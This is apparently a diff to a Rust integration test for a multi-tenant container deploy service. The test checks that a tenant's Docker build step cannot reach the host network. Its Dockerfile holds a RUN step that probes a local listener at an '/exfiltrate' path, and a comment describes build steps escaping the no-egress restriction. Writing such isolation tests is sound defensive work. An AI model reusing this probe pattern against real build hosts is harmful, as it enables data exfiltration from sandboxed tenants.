@@ -6,7 +6,10 @@
 //!   naming its tag;
 //! - the tags of two projects meet like their volumes and containers (`p` + `db-store` and
 //!   `p-db` + `store`): project `p`'s build moves project `p-db`'s tag onto its own image, and
-//!   `p-db`'s next deploy of a service that names that tag runs `p`'s code inside `p-db`.
+//!   `p-db`'s next deploy of a service that names that tag runs `p`'s code inside `p-db`;
+//! - a tenant's `build:` runs its `RUN` steps on the engine's default bridge, with the network
+//!   and none of the hardening: a step reaches the host (and beyond) although the tenant's
+//!   services have no egress.
 
 use std::process::Command;
 use std::sync::Mutex;
@@ -331,5 +334,84 @@ async fn a_project_cannot_move_another_projects_image_tag_onto_its_own_build() {
         now, victims_image,
         "project {attacker}'s deploy ({status}) moved project {victim}'s tag {tag} onto its own \
          image (made by {made_by}): {body}"
+    );
+}
+
+/// The host's address on the engine's default bridge (`docker0`).
+fn docker0_address() -> String {
+    let out = Command::new("ip")
+        .args(["-4", "-o", "addr", "show", "docker0"])
+        .output()
+        .expect("ip runs");
+    let text = String::from_utf8_lossy(&out.stdout);
+    let cidr = text
+        .split_whitespace()
+        .skip_while(|w| *w != "inet")
+        .nth(1)
+        .expect("docker0 has an IPv4 address");
+    cidr.split('/').next().unwrap_or_default().to_string()
+}
+
+/// A developer's project declares no egress, and its build is a tenant's code like its image.
+/// A `RUN` step of the build connects to a listener on the host's bridge address: it must not
+/// get through (a build step should have no network, as the services it builds have none).
+#[tokio::test(flavor = "multi_thread")]
+async fn a_build_step_cannot_reach_the_host_network() {
+    let srv = server().await;
+    let attacker = format!("atkbuild{}", std::process::id());
+    let base = format!("bulkhead-attack2-{attacker}-base:1");
+    let _cleanup = Cleanup {
+        projects: vec![attacker.clone()],
+        images: vec![base.clone(), format!("{attacker}-s")],
+    };
+    import_base(&base);
+    let own = Scope::Project(ProjectName::new(&attacker).expect("project name"));
+    let dev = srv.account("dev", &[(Role::Developer, own)]).await;
+
+    let host = docker0_address();
+    let listener = std::net::TcpListener::bind((host.as_str(), 0)).expect("listen on docker0");
+    let port = listener.local_addr().expect("addr").port();
+    listener.set_nonblocking(true).expect("nonblocking");
+    let reached = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let watcher = {
+        let (reached, stop) = (reached.clone(), stop.clone());
+        std::thread::spawn(move || {
+            use std::io::{Read as _, Write as _};
+            while !stop.load(std::sync::atomic::Ordering::SeqCst) {
+                match listener.accept() {
+                    Ok((mut conn, _)) => {
+                        reached.store(true, std::sync::atomic::Ordering::SeqCst);
+                        let _ = conn.set_nonblocking(false);
+                        let mut buf = [0u8; 1024];
+                        let _ = conn.read(&mut buf);
+                        let _ = conn.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n");
+                    }
+                    Err(_) => std::thread::sleep(std::time::Duration::from_millis(50)),
+                }
+            }
+        })
+    };
+
+    let compose = format!("services:\n{}", service("s", "build: ./app"));
+    let dockerfile = format!(
+        "FROM {base}\nRUN [\"/bulkhead-demo\", \"probe\", \"http://{host}:{port}/exfiltrate\"]\n"
+    );
+    let (status, body) = srv
+        .call(
+            "POST",
+            &format!("/v1/projects/{attacker}/deploys"),
+            Some(&dev),
+            Some(&bundle(&[
+                ("compose.yaml", &compose),
+                ("app/Dockerfile", &dockerfile),
+            ])),
+        )
+        .await;
+    stop.store(true, std::sync::atomic::Ordering::SeqCst);
+    let _ = watcher.join();
+    assert!(
+        !reached.load(std::sync::atomic::Ordering::SeqCst),
+        "a RUN step of project {attacker}'s build ({status}) connected to {host}:{port} on the host: {body}"
     );
 }
